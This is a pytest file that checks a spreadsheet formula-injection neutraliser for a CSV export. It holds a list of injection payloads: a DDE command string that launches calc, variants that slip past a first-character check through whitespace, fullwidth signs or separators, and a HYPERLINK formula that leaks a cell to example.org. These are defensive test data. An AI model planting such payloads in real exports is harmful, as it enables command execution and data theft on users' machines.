"""Spreadsheet formula injection: every cell a spreadsheet would treat as a formula is neutralised, on
every CSV Woonbrug writes, and numbers stay exact.

Before: `neutralise` looked at the very first character only, so a leading space, a line feed, a
fullwidth `＝`, or a `;`, `"` or `|` in front let a formula through.
"""

from __future__ import annotations

import csv
import io

import pytest

from adapters.csv import CsvAdapter, CsvConfig
from adapters.csv import neutralise as neutralise_from_the_csv_adapter
from adapters.sdk.spreadsheet import neutralise
from schemas import MessageSource, ToewijzingGedaan
from tests import factories as f

PAYLOAD = "cmd|' /C calc'!A0"

WOULD_BE_FORMULAS = [
    "=" + PAYLOAD,
    "+" + PAYLOAD,
    "-2+3+" + PAYLOAD,
    "@SUM(1+1)*" + PAYLOAD,
    "|" + PAYLOAD,
    "\t=" + PAYLOAD,
    "\r=" + PAYLOAD,
    "\n=" + PAYLOAD,
    " =" + PAYLOAD,
    "   +" + PAYLOAD,
    "\u00a0=" + PAYLOAD,  # no-break space
    "\u3000=" + PAYLOAD,  # ideographic space
    "\uff1d" + PAYLOAD,  # fullwidth equals sign
    "\uff0b" + PAYLOAD,  # fullwidth plus sign
    "\uff20SUM(1)",  # fullwidth commercial at
    "\ufe62" + PAYLOAD,  # small plus sign
    ";=" + PAYLOAD,
    ",=" + PAYLOAD,
    '"=' + PAYLOAD,
    '" =' + PAYLOAD,
    '=HYPERLINK("http://example.org/?leak="&A1)',
]


@pytest.mark.parametrize("cell", WOULD_BE_FORMULAS, ids=repr)
def test_every_would_be_formula_gets_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["-12,50", "-1.234,56", "+31", "-7", "12.5", "-0,01", "Molenstraat 1", "a=b", "T-6001", "", "'=already text"],
)
def test_numbers_and_ordinary_text_are_left_exactly_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_the_csv_adapter_and_the_gateway_share_one_neutraliser() -> None:
    assert neutralise_from_the_csv_adapter is neutralise


@pytest.mark.parametrize("cell", [c for c in WOULD_BE_FORMULAS if c[0] not in "\t\r\n"], ids=repr)
def test_the_export_writes_each_as_text(cell: str) -> None:
    # Tab, CR and LF cannot be in a one-line canonical field; the others reach the export as they are.
    message = ToewijzingGedaan(
        message_id="msg-1",
        correlation_id="c-1",
        source=MessageSource(tenant="woonbrug", system="flow"),
        payload=f.toewijzing(id=cell.replace("\n", " ")[:100]),
    )
    body = CsvAdapter(CsvConfig(tenant="corp-a")).encode(message).body.decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(body, newline=""), delimiter=";"))
    assert row["Toewijzingnummer"] == "'" + cell[:100]
